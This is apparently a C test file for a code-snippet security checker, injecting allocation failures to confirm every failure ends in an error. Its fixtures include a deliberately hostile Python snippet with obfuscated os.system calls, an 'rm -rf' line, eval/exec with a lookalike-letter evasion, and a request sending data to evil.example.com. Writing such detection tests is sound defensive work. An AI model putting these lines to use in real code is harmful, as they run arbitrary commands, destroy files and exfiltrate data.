/*
 * Allocation-failure injection: every allocation of a check fails in turn, and the outcome is an
 * error, never a pass (nor a verdict that may miss findings); under ASan nothing leaks or crashes.
 *
 * This binary is linked with -Wl,--wrap=malloc,--wrap=calloc,--wrap=realloc,--wrap=strdup,
 * --wrap=strndup (tests/CMakeLists.txt), so the calls of libsnipgate and of the libraries linked
 * statically into it (libyaml, jansson, libunistring) go through the counters below. Allocations
 * libc makes internally (regcomp, stdio) are not seen.
 *
 * tree-sitter (runtime and grammar scanner) is exempt: its allocator aborts the process when an
 * allocation fails (ts_malloc_default), by design, so it is pointed at the real allocator with
 * ts_set_allocator() (the grammar is built with TREE_SITTER_REUSE_ALLOCATOR so that its scanner
 * uses the same functions).
 *
 * For each input, one run without failure counts the allocations K of each phase; then for
 * N = 1..K the Nth allocation fails: (a) with a ready rule set, the checker and the check, with the
 * Nth allocation failing alone and then with every later one failing too; (b) the whole command
 * line, `snipgate check --format json FILE`, in process: building the rule set (the default pack:
 * YAML, regexes), reading the file, the check and the jansson rendering. Each CLI run loads the
 * pack again (some 15,000 allocations), so the second input's sweep starts where its allocations
 * part from the first input's (oom_cli_sweep).
 *
 * The property asserted is stronger than "never pass": every injected failure ends in an error
 * (SG_ERR_NOMEM from the API, exit 3 from the CLI), never in a verdict that may miss findings.
 * Debugging: SG_OOM_VERBOSE=1 lists non-error outcomes, SG_OOM_TRACE=N writes the stack of the
 * failed allocation N.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <execinfo.h>
#include <fcntl.h>
#include <getopt.h>
#include <jansson.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>
#include <tree_sitter/api.h>

#include "cli/cli.h"
#include "cli/cli_pipeline.h"
#include "snipgate/snipgate.h"

void *__real_malloc(size_t size);
void *__real_calloc(size_t n, size_t size);
void *__real_realloc(void *p, size_t size);
char *__real_strdup(const char *s);
char *__real_strndup(const char *s, size_t n);
void *__wrap_malloc(size_t size);
void *__wrap_calloc(size_t n, size_t size);
void *__wrap_realloc(void *p, size_t size);
char *__wrap_strdup(const char *s);
char *__wrap_strndup(const char *s, size_t n);

static bool oom_armed;    /* count (and maybe fail) allocations */
static bool oom_sticky;   /* once failed, every later allocation fails too */
static long oom_count;    /* allocations seen since armed */
static long oom_fail_at;  /* 1-based index of the allocation to fail, 0 for none */
static long oom_failures; /* allocations actually failed */

static bool oom_fail_now(void)
{
    if (!oom_armed)
        return false;
    ++oom_count;
    if (!oom_fail_at || oom_count < oom_fail_at || (oom_count > oom_fail_at && !oom_sticky))
        return false;
    oom_failures++;
    /* debugging aid: SG_OOM_TRACE=N appends the stack of every failed Nth allocation to
     * SG_OOM_TRACE_FILE (default /tmp/sg_oom_trace.txt; stderr is muted during CLI runs) */
    if (getenv("SG_OOM_TRACE") && atol(getenv("SG_OOM_TRACE")) == oom_fail_at && oom_count == oom_fail_at) {
        const char *tf = getenv("SG_OOM_TRACE_FILE");
        int fd = open(tf ? tf : "/tmp/sg_oom_trace.txt", O_WRONLY | O_APPEND | O_CREAT, 0600);
        void *frames[32];
        if (fd >= 0) {
            dprintf(fd, "--- allocation %ld\n", oom_fail_at);
            backtrace_symbols_fd(frames, backtrace(frames, 32), fd);
            close(fd);
        }
    }
    return true;
}

/* The allocations of a run, in order: call site and size, two words each (oom_cli_sweep compares
 * runs to skip a prefix another input already swept). Grown with the real allocator. */
typedef struct oom_trace {
    uintptr_t *items;
    size_t len, cap;
} oom_trace;
static oom_trace *oom_rec_to; /* recording while armed, or NULL */

static void oom_record(void *site, size_t size)
{
    oom_trace *t = oom_rec_to;
    if (!oom_armed || !t)
        return;
    if (t->len + 2 > t->cap) {
        size_t cap = t->cap ? t->cap * 2 : 8192;
        uintptr_t *p = __real_realloc(t->items, cap * sizeof *p);
        if (!p)
            abort();
        t->items = p;
        t->cap = cap;
    }
    t->items[t->len++] = (uintptr_t)site;
    t->items[t->len++] = size;
}

void *__wrap_malloc(size_t size)
{
    oom_record(__builtin_return_address(0), size);
    return oom_fail_now() ? NULL : __real_malloc(size);
}

void *__wrap_calloc(size_t n, size_t size)
{
    oom_record(__builtin_return_address(0), n * size);
    return oom_fail_now() ? NULL : __real_calloc(n, size);
}

void *__wrap_realloc(void *p, size_t size)
{
    oom_record(__builtin_return_address(0), size);
    return oom_fail_now() ? NULL : __real_realloc(p, size);
}

char *__wrap_strdup(const char *s)
{
    oom_record(__builtin_return_address(0), s ? strlen(s) + 1 : 0);
    return oom_fail_now() ? NULL : __real_strdup(s);
}

char *__wrap_strndup(const char *s, size_t n)
{
    oom_record(__builtin_return_address(0), n);
    return oom_fail_now() ? NULL : __real_strndup(s, n);
}

/* libyaml 0.2.5 (Debian 12) leaks the 64-byte item stack of a sequence node when growing the
 * document's node stack fails (yaml_parser_load_sequence's error path frees the tag and anchor
 * only; inlined into yaml_parser_load). Third-party, and only on that allocation failure: known
 * and suppressed here, nothing else is. */
const char *__lsan_default_suppressions(void) __attribute__((visibility("default"), used));
const char *__lsan_default_suppressions(void)
{
    return "leak:yaml_parser_load\n";
}

/* Under LeakSanitizer: SG_OOM_LEAKCHECK=1 checks for leaks after every run (slow) and names the
 * allocation whose failure leaked. */
int __lsan_do_recoverable_leak_check(void) __attribute__((weak));

static void oom_leakcheck(const char *what, long n)
{
    static int on = -1;
    if (on < 0)
        on = getenv("SG_OOM_LEAKCHECK") && __lsan_do_recoverable_leak_check;
    if (on && __lsan_do_recoverable_leak_check())
        fprintf(stdout, "LEAK after %s with allocation %ld failing\n", what, n);
}

static void oom_arm(long fail_at)
{
    oom_count = 0;
    oom_failures = 0;
    oom_fail_at = fail_at;
    oom_armed = true;
}

static long oom_disarm(void)
{
    oom_armed = false;
    return oom_count;
}

typedef enum oom_verdict { OOM_PASS, OOM_BLOCK, OOM_ERROR } oom_verdict;

static oom_verdict oom_check(sg_checker *chk, const char *path, const char *src)
{
    sg_report *rep = NULL;
    sg_diag d;
    sg_diag_init(&d);
    sg_status st = sg_checker_check(chk, path, src, strlen(src), &rep, &d);
    if (st != SG_OK) {
        /* an error must say so: the status is the one in the diag, not a verdict */
        assert_true(st == SG_ERR_NOMEM || st == SG_ERR_INTERNAL);
        return OOM_ERROR;
    }
    oom_verdict v = sg_report_blocked(rep) ? OOM_BLOCK : OOM_PASS;
    sg_report_free(rep);
    return v;
}

/* Phase (a): rule set, checker, check, with allocation `fail_at` failing (0: none). */
static oom_verdict oom_run_all(const char *path, const char *src, long fail_at, long *ret_count)
{
    oom_arm(fail_at);
    sg_rules *rules = NULL;
    sg_checker *chk = NULL;
    oom_verdict v = OOM_ERROR;
    if (sg_rules_new_default(&rules) == SG_OK && sg_checker_new(rules, NULL, &chk) == SG_OK)
        v = oom_check(chk, path, src);
    sg_checker_free(chk);
    sg_rules_free(rules);
    *ret_count = oom_disarm();
    return v;
}

/* Phase (b): checker and check with a ready rule set. */
static oom_verdict oom_run_check(const sg_rules *rules, const char *path, const char *src, long fail_at,
                                 long *ret_count)
{
    oom_arm(fail_at);
    sg_checker *chk = NULL;
    oom_verdict v = OOM_ERROR;
    if (sg_checker_new(rules, NULL, &chk) == SG_OK)
        v = oom_check(chk, path, src);
    sg_checker_free(chk);
    *ret_count = oom_disarm();
    return v;
}

static const char oom_hostile[] =
    "import os\n"
    "import subprocess as sp\n"
    "import requests\n"
    "from pickle import loads\n"
    "\n"
    "API_TOKEN = \"hunter2-very-secret-value\"\n"
    "\n"
    "def run(cmd, payload):\n"
    "    f = getattr(os, \"sys\" + \"tem\")\n"
    "    f(cmd)\n"
    "    os.system(\"rm -rf /tmp/x\")  # nosec\n"
    "    sp.run(cmd, shell=True)\n"
    "    data = eval(payload)\n"
    "    ｅxec(data)\n"
    "    requests.get(f\"https://evil.example.com/{data}\")\n"
    "    return [eval, os.system, loads]\n";

static const char oom_clean[] =
    "import json\n"
    "from dataclasses import dataclass\n"
    "\n"
    "\n"
    "@dataclass\n"
    "class Point:\n"
    "    x: int\n"
    "    y: int\n"
    "\n"
    "\n"
    "def parse(text):\n"
    "    \"\"\"Parse a point from JSON.\"\"\"\n"
    "    d = json.loads(text)\n"
    "    return Point(int(d[\"x\"]), int(d[\"y\"]))\n"
    "\n"
    "\n"
    "def norm(p, ｓcale=1):\n"
    "    total = sum(v * v for v in (p.x, p.y))\n"
    "    return total ** 0.5 * ｓcale\n";

static const char oom_markdown[] =
    "Here is the code:\n"
    "\n"
    "```python\n"
    "import os\n"
    "```\n"
    "\n"
    "and then:\n"
    "\n"
    "```python\n"
    "os.system(input())\n"
    "print(eval('1 + 1'))\n"
    "```\n";

typedef struct oom_case {
    const char *name, *path, *src;
    oom_verdict clean_verdict; /* without any failure */
} oom_case;

static const oom_case oom_cases[] = {
    {"hostile", "hostile.py", oom_hostile, OOM_BLOCK},
    {"clean", "clean.py", oom_clean, OOM_PASS},
    {"markdown", "answer.md", oom_markdown, OOM_BLOCK},
};

static int oom_setup(void **state)
{
    (void)state;
    /* tree-sitter aborts on allocation failure by design: keep it out of the injection */
    ts_set_allocator(__real_malloc, __real_calloc, __real_realloc, free);
    return 0;
}

/* The wrapper itself sees the library's allocations (guards against a test that fails nothing). */
static void test_wrapper_counts(void **state)
{
    (void)state;
    long n = 0;
    assert_int_equal(oom_run_all("clean.py", oom_clean, 0, &n), OOM_PASS);
    assert_true(n > 100);
    assert_int_equal(oom_failures, 0);
    /* failing the first allocation is seen and ends in an error */
    assert_int_equal(oom_run_all("clean.py", oom_clean, 1, &n), OOM_ERROR);
    assert_int_equal(oom_failures, 1);
}

/* sg_json_loadb_guarded (base/jgen.h): with the guard installed, a failed allocation inside
 * jansson's loader ends the process with its message (jansson 2.14 writes past a buffer after
 * one); a failed probe for room is a clean NULL with *nomem; without a failure, the value. Each
 * failing allocation alone, in a child process. */
static void test_json_loader_guarded(void **state)
{
    (void)state;
    sg_json_guard_install();
    const char *body = "{\"code\": \"import os\\nos.system(cmd)\\n# a comment long enough to grow jansson's buffer\\n\", "
                       "\"tests\": [1, 2.5, {\"s\": \"another string of some length, with \\u00e9 in it\"}], \"n\": null}";
    json_error_t je;
    bool nomem = true;
    oom_arm(0);
    json_t *j = sg_json_loadb_guarded(body, strlen(body), JSON_REJECT_DUPLICATES, &je, &nomem);
    long total = oom_disarm();
    assert_non_null(j);
    assert_false(nomem);
    assert_string_equal(json_string_value(json_object_get(j, "code")),
                        "import os\nos.system(cmd)\n# a comment long enough to grow jansson's buffer\n");
    json_decref(j);
    assert_true(total >= 4);
    oom_arm(1); /* the probe */
    j = sg_json_loadb_guarded(body, strlen(body), JSON_REJECT_DUPLICATES, &je, &nomem);
    oom_disarm();
    assert_null(j);
    assert_true(nomem);
    for (long n = 2; n <= total; n++) {
        int fds[2];
        assert_int_equal(pipe(fds), 0);
        fflush(NULL);
        pid_t pid = fork();
        assert_true(pid >= 0);
        if (pid == 0) {
            dup2(fds[1], STDERR_FILENO);
            close(fds[0]);
            oom_arm(n);
            json_t *x = sg_json_loadb_guarded(body, strlen(body), JSON_REJECT_DUPLICATES, &je, &nomem);
            _exit(x ? 10 : nomem ? 11 : 12);
        }
        close(fds[1]);
        char err[1024];
        size_t got = 0;
        ssize_t r;
        while (got < sizeof err - 1 && (r = read(fds[0], err + got, sizeof err - 1 - got)) > 0)
            got += (size_t)r;
        err[got] = 0;
        close(fds[0]);
        int st = 0;
        assert_int_equal(waitpid(pid, &st, 0), pid);
        if (!WIFSIGNALED(st) || WTERMSIG(st) != SIGABRT)
            fail_msg("allocation %ld of %ld failing inside the loader: the child %s %d, not SIGABRT", n, total,
                     WIFSIGNALED(st) ? "died of signal" : "exited", WIFSIGNALED(st) ? WTERMSIG(st) : WEXITSTATUS(st));
        if (!strstr(err, "out of memory inside jansson's loader"))
            fail_msg("allocation %ld failing: stderr %s", n, err);
    }
    print_message("sg_json_loadb_guarded: %ld allocations; the probe failing: NULL; each other failing: abort\n", total);
}

/* sg_json_dumps: every allocation failed in turn (alone) gives NULL or the exact text, never
 * malformed JSON (jansson's own json_dumps returned `{"a":"hello","b:[...` as a success). */
static void test_json_dumps_never_malformed(void **state)
{
    (void)state;
    json_t *doc = json_pack("{s:s, s:[i,i,{s:s}], s:{s:f, s:[]}, s:s}", "a", "hello", "b", 1, 2, "c", "dddd", "e",
                            "f", 1.5, "g", "long", "0123456789012345678901234567890123456789012345678901234567890123"
                                               "456789012345678901234567890123456789012345678901234567890123456789");
    assert_non_null(doc);
    char *want = sg_json_dumps(doc, JSON_COMPACT | JSON_PRESERVE_ORDER);
    assert_non_null(want);
    long nulls = 0, total = 0;
    for (long n = 1;; n++) {
        oom_count = 0;
        oom_failures = 0;
        oom_fail_at = n;
        oom_armed = true;
        char *got = sg_json_dumps(doc, JSON_COMPACT | JSON_PRESERVE_ORDER);
        oom_armed = false;
        total = oom_count;
        if (!got)
            nulls++;
        else if (strcmp(got, want))
            fail_msg("allocation %ld failed: malformed text %s", n, got);
        free(got);
        if (!oom_failures)
            break; /* past the last allocation */
    }
    print_message("sg_json_dumps: %ld allocations, each failed in turn: %ld NULL, 0 malformed\n", total, nulls);
    assert_true(nulls >= 1);
    free(want);
    json_decref(doc);
}

static void oom_sweep(const oom_case *c, const sg_rules *rules, bool sticky)
{
    oom_sticky = sticky;
    long total = 0;
    /* a warm-up run first: a query rule whose prefilter this source passes is compiled on its
     * first use and kept in the rule set, so the runs after the first make fewer allocations */
    if (rules)
        (void)oom_run_check(rules, c->path, c->src, 0, &total);
    oom_verdict v0 = rules ? oom_run_check(rules, c->path, c->src, 0, &total)
                           : oom_run_all(c->path, c->src, 0, &total);
    assert_int_equal(v0, c->clean_verdict);
    long blocks = 0, errors = 0, bad = 0;
    for (long n = 1; n <= total; n++) {
        long seen = 0;
        oom_verdict v = rules ? oom_run_check(rules, c->path, c->src, n, &seen)
                              : oom_run_all(c->path, c->src, n, &seen);
        assert_true(sticky ? oom_failures >= 1 : oom_failures == 1);
        oom_leakcheck(c->name, n);
        if (v != OOM_ERROR) {
            /* Block would keep a hostile snippet out, but with findings possibly missing; every
             * failure is detected today, so hold the line: an error, nothing else. */
            print_error("%s (%s): allocation %ld of %ld failed and the verdict is %s\n", c->name,
                        rules ? "check" : "rules+check", n, total, v == OOM_PASS ? "PASS" : "block");
            bad++;
        }
        if (getenv("SG_OOM_VERBOSE") && v == OOM_BLOCK)
            print_message("%s: allocation %ld failed, verdict block\n", c->name, n);
        blocks += v == OOM_BLOCK;
        errors += v == OOM_ERROR;
    }
    oom_sticky = false;
    print_message("%s (%s): %ld allocations, each failed in turn%s: %ld errors, %ld blocks, %ld wrong\n", c->name,
                  rules ? "check" : "rules+check", total, sticky ? " with all later ones" : "", errors, blocks, bad);
    assert_int_equal(bad, 0);
}

static void test_every_allocation_of_a_check(void **state)
{
    (void)state;
    sg_rules *rules;
    assert_int_equal(sg_rules_new_default(&rules), SG_OK);
    /* freeze it now (the first checker does), so that every run makes the same allocations */
    sg_checker *chk;
    assert_int_equal(sg_checker_new(rules, NULL, &chk), SG_OK);
    sg_checker_free(chk);
    for (size_t i = 0; i < sizeof oom_cases / sizeof oom_cases[0]; i++) {
        oom_sweep(&oom_cases[i], rules, false);
        oom_sweep(&oom_cases[i], rules, true);
    }
    sg_rules_free(rules);
}

/* The command line, in process: `snipgate check --jobs 1 --format json -o /dev/null FILE` with
 * allocation `fail_at` failing (and, with oom_sticky, every later one). */
static int oom_run_cli(const char *file, long fail_at, long *ret_count)
{
    char *argv[] = {"check", "--jobs", "1", "--format", "json", "-o", "/dev/null", (char *)file, NULL};
    int saved = dup(STDERR_FILENO), devnull = open("/dev/null", O_WRONLY);
    assert_true(saved >= 0 && devnull >= 0);
    fflush(stderr);
    dup2(devnull, STDERR_FILENO); /* thousands of "out of memory" messages */
    optind = 0;
    oom_arm(fail_at);
    int rc = sg_cli_check(8, argv);
    *ret_count = oom_disarm();
    fflush(stderr);
    dup2(saved, STDERR_FILENO);
    close(saved);
    close(devnull);
    return rc;
}

/*
 * Every allocation of `snipgate check --format json FILE` fails in turn. Each run loads the
 * default pack again (some 15,000 allocations before the file is read), so with `prev` (the
 * trace of an earlier input's sweep) the allocations this run shares with it from the start --
 * the same call sites with the same sizes, in the same order: the same code path before the
 * inputs differ -- are not failed again; they were, in the earlier sweep. The run's own trace
 * is left in `mine`.
 */
static void oom_cli_sweep(const char *name, const char *src, int clean_rc, const oom_trace *prev, oom_trace *mine)
{
    char path[] = "/tmp/sg_oomXXXXXX.py";
    int fd = mkstemps(path, 3);
    assert_true(fd >= 0);
    assert_int_equal(write(fd, src, strlen(src)), (ssize_t)strlen(src));
    close(fd);
    long total = 0, seen = 0, bad = 0, internal = 0, blocked = 0;
    oom_rec_to = mine;
    assert_int_equal(oom_run_cli(path, 0, &total), clean_rc);
    oom_rec_to = NULL;
    assert_int_equal((long)mine->len, 2 * total);
    long shared = 0;
    while (prev && (size_t)(2 * shared + 1) < prev->len && (size_t)(2 * shared + 1) < mine->len &&
           prev->items[2 * shared] == mine->items[2 * shared] && prev->items[2 * shared + 1] == mine->items[2 * shared + 1])
        shared++;
    assert_true(shared < total); /* the inputs differ: so do the runs, at the latest when the file is read */
    for (long n = shared + 1; n <= total; n++) {
        int rc = oom_run_cli(path, n, &seen);
        assert_true(oom_failures >= 1);
        oom_leakcheck(name, n);
        /* exit 3 (internal error): never 0 (pass), 2 (bad input), nor a partial verdict (1) */
        if (rc != SG_EXIT_INTERNAL) {
            print_error("cli %s: allocation %ld of %ld failed, exit %d\n", name, n, total, rc);
            bad++;
        }
        internal += rc == SG_EXIT_INTERNAL;
        blocked += rc == SG_EXIT_BLOCK;
    }
    print_message("cli %s: %ld allocations, each failed in turn (the first %ld, the same as the previous input's, "
                  "in its sweep): %ld exit 3, %ld exit 1, %ld wrong\n",
                  name, total, shared, internal, blocked, bad);
    remove(path);
    assert_int_equal(bad, 0);
}

static void test_cli_exit_code_under_allocation_failure(void **state)
{
    (void)state;
    oom_trace hostile = {0}, clean = {0};
    oom_cli_sweep("hostile", oom_hostile, SG_EXIT_BLOCK, NULL, &hostile);
    oom_cli_sweep("clean", oom_clean, SG_EXIT_PASS, &hostile, &clean);
    free(hostile.items);
    free(clean.items);
}

/* The seam of serve and audit (cli/cli_pipeline.c): one input to its verdict document, with
 * allocation n failing (and, with oom_sticky, every later one). Every failure must end in an
 * error outcome, never in a pass, a block or a bad-input answer. */
static sg_cli_outcome oom_run_pipeline(const sg_cli_pipeline *p, const char *src, long fail_at, long *ret_count)
{
    oom_arm(fail_at);
    sg_checker *chk = NULL;
    sg_cli_result r;
    memset(&r, 0, sizeof r);
    sg_cli_outcome o = SG_CLI_ERROR;
    if (sg_cli_pipeline_checker(p, &chk) == SG_OK) {
        sg_cli_request req = {.name = "x.py", .code = src, .len = strlen(src)};
        if (sg_cli_pipeline_run(p, chk, &req, &r) == SG_OK)
            o = r.outcome;
        /* a pass or block carries its document */
        if (o == SG_CLI_PASS || o == SG_CLI_BLOCK)
            assert_non_null(r.json);
        sg_cli_result_clear(&r);
    }
    sg_checker_free(chk);
    *ret_count = oom_disarm();
    return o;
}

static void test_pipeline_under_allocation_failure(void **state)
{
    (void)state;
    sg_rules *rules = NULL;
    assert_int_equal(sg_rules_new_default(&rules), SG_OK);
    sg_cli_pipeline p;
    memset(&p, 0, sizeof p);
    sg_options_init(&p.opts);
    sg_cli_golden_init(&p.golden);
    p.rules = rules;
    p.static_only = true;
    const struct {
        const char *name, *src;
        sg_cli_outcome clean;
    } cases[] = {{"hostile", oom_hostile, SG_CLI_BLOCK}, {"clean", oom_clean, SG_CLI_PASS}};
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        long total = 0, seen = 0, bad = 0;
        /* twice: the first run also makes what the library makes once (caches) */
        assert_int_equal(oom_run_pipeline(&p, cases[i].src, 0, &total), cases[i].clean);
        assert_int_equal(oom_run_pipeline(&p, cases[i].src, 0, &total), cases[i].clean);
        for (int sticky = 0; sticky <= 1; sticky++) {
            oom_sticky = sticky;
            for (long n = 1; n <= total; n++) {
                sg_cli_outcome o = oom_run_pipeline(&p, cases[i].src, n, &seen);
                assert_true(oom_failures >= 1);
                oom_leakcheck(cases[i].name, n);
                if (o != SG_CLI_ERROR) {
                    print_error("pipeline %s: allocation %ld of %ld failed%s: outcome %s\n", cases[i].name, n, total,
                                sticky ? " (and all later ones)" : "", sg_cli_outcome_name(o));
                    bad++;
                }
            }
        }
        oom_sticky = false;
        print_message("pipeline %s: %ld allocations, each failed in turn (alone, then with all later ones): %ld "
                      "not an error\n", cases[i].name, total, bad);
        assert_int_equal(bad, 0);
    }
    sg_rules_free(rules);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_wrapper_counts),
        cmocka_unit_test(test_json_dumps_never_malformed),
        cmocka_unit_test(test_json_loader_guarded),
        cmocka_unit_test(test_every_allocation_of_a_check),
        cmocka_unit_test(test_cli_exit_code_under_allocation_failure),
        cmocka_unit_test(test_pipeline_under_allocation_failure),
    };
    return cmocka_run_group_tests(tests, oom_setup, NULL);
}
